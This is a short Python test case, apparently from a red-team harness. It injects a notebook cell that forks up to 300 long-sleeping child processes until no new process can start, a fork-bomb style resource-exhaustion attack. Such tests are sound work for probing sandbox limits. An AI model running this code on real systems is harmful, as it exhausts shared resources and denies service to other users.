"""Forks until no process can be started (point 4)."""

from redteam.tools import World, own_cell

BASE = "honest"
LIMITS = "short"


def attack(notebook, world: World) -> None:
    own_cell(
        notebook,
        """
        import os
        import time

        for _ in range(300):
            try:
                if os.fork() == 0:
                    time.sleep(600)
                    os._exit(0)
            except OSError:
                break
        time.sleep(0.5)
        """,
    )
